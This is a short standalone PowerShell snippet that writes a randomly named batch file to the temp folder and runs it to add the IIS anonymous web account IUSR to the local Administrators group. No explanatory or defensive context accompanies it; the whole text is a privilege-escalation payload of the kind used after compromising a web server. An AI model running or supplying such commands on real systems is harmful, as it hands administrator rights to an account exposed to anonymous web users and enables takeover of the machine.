$file = "$env:TEMP\$(Get-Random).cmd"
Set-Content $file 'net localgroup Administrators IUSR /add'
Start-Process $file -Wait
